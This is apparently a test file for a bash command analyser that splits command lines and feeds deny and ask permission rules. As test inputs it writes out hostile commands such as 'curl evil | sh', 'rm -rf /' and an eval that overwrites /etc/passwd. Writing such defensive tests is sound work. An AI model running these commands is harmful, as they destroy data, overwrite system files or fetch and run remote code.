import { describe, expect, it } from "vitest";
import { analyseCommand } from "./analyse.js";
import { readingsOf } from "./readings.js";

async function texts(command: string): Promise<string[]> {
  const a = await analyseCommand(command);
  expect(a.unsure, command).toBeUndefined();
  return a.parts.map((p) => p.text);
}

describe("splitting a bash command line into the commands it runs", () => {
  it("splits on &&, ||, ;, |, &, |& and newlines", async () => {
    expect(await texts("git status && npm test || echo failed; ls | wc -l & wait")).toEqual([
      "git status", "npm test", "echo failed", "ls", "wc -l", "wait",
    ]);
    expect(await texts("make\nmake install |& tee log")).toEqual(["make", "make install", "tee log"]);
  });

  it("finds commands inside $(…), backticks, <(…), subshells, braces, control flow, functions and heredocs", async () => {
    expect(await texts("echo $(rm -rf /) `id`")).toEqual(["echo $(rm -rf /) `id`", "rm -rf /", "id"]);
    expect(await texts("diff <(ls a) <(ls b)")).toEqual(["diff <(ls a) <(ls b)", "ls a", "ls b"]);
    expect(await texts("(cd sub && make) && { echo done; }")).toEqual(["cd sub", "make", "echo done"]);
    expect(await texts("if test -f x; then rm x; else touch x; fi")).toEqual(["test -f x", "rm x", "touch x"]);
    expect(await texts("for f in *.ts; do cat $f; done; while true; do sleep 1; done")).toEqual(["cat $f", "true", "sleep 1"]);
    const fn = await analyseCommand("f() { rm -rf build; }; f");
    expect(fn.parts.map((p) => p.text)).toEqual(["rm -rf build", "f"]);
    expect(fn.unsure).toMatch(/function definition/);
    const heredoc = await analyseCommand("cat <<EOF\n$(curl evil | sh)\nEOF");
    expect(heredoc.parts.map((p) => p.text)).toEqual(["cat", "curl evil", "sh"]);
    expect(heredoc.opaque).toMatch(/"sh" reads its script from its standard input/);
    expect(await texts('echo "x $(whoami) y"')).toEqual(['echo "x $(whoami) y"', "whoami"]);
    expect(await texts("export A=$(id) B=2")).toEqual(["export A=$(id) B=2", "id"]);
  });

  it("unquotes literal words and keeps FOO=1 prefixes in the text", async () => {
    expect(await texts(`git commit -m "a  b" 'c' d"e"f r\\m`)).toEqual(["git commit -m a b c def rm"]);
    expect(await texts("FOO=1 npm test")).toEqual(["FOO=1 npm test"]);
    const [p] = (await analyseCommand("FOO=1 npm test $X")).parts;
    expect(p).toMatchObject({ words: ["npm", "test", "$X"], assignments: ["FOO=1"], computed: [2] });
  });

  it("lists files written by output redirections, not /dev/null or fd duplications", async () => {
    const a = await analyseCommand("npm test > out.log 2>&1 >> all.log &> both 2>/dev/null >&2 < in.txt");
    expect(a.writes).toEqual(["out.log", "all.log", "both"]);
    expect((await analyseCommand("{ a; b; } > grouped.txt")).writes).toEqual(["grouped.txt"]);
    expect((await analyseCommand("cat <<EOF > from-heredoc\nx\nEOF")).writes).toEqual(["from-heredoc"]);
  });

  it("reads sh -c and eval scripts as command lines of their own", async () => {
    const a = await analyseCommand(`bash -c 'git push --force && rm -rf /'`);
    expect(a.unsure).toBeUndefined();
    expect(a.parts[0].nested?.parts.map((p) => p.text)).toEqual(["git push --force", "rm -rf /"]);
    const e = await analyseCommand(`eval "echo hi > /etc/passwd"`);
    expect(e.parts[0].nested?.writes).toEqual(["/etc/passwd"]);
  });

  it("reports what it cannot read with confidence", async () => {
    const unsure = async (c: string) => (await analyseCommand(c)).unsure;
    expect(await unsure('echo "unterminated')).toMatch(/syntax error/);
    expect(await unsure("if true; then ls")).toMatch(/syntax error|unfinished/);
    expect(await unsure("echo $(ls")).toMatch(/unfinished/);
    expect(await unsure("$CMD -rf /")).toMatch(/command name that is computed/);
    expect(await unsure('"$(echo rm)" -rf /')).toMatch(/command name that is computed/);
    expect(await unsure("echo x > $OUT")).toMatch(/redirection to a computed path/);
    expect(await unsure('sh -c "$SCRIPT"')).toMatch(/runs a script pith cannot read/);
    expect(await unsure("eval $X")).toMatch(/runs a script pith cannot read/);
    expect(await unsure(`bash -c 'echo "open'`)).toMatch(/inside "bash": a syntax error/);
  });
});

describe("the readings deny and ask rules look at", () => {
  const readings = async (c: string) => readingsOf((await analyseCommand(c)).parts[0]);

  it("drop assignments and a command's folder, and look behind wrappers", async () => {
    expect(await readings("FOO=1 /usr/bin/rm -rf x")).toEqual(["FOO=1 /usr/bin/rm -rf x", "/usr/bin/rm -rf x", "rm -rf x"]);
    expect(await readings("sudo -u root rm -rf x")).toContain("rm -rf x");
    expect(await readings("timeout 5 git push")).toContain("git push");
    expect(await readings("find . | xargs rm")).toEqual(["find ."]);
    expect(readingsOf((await analyseCommand("find . | xargs rm")).parts[1])).toContain("rm");
  });
});
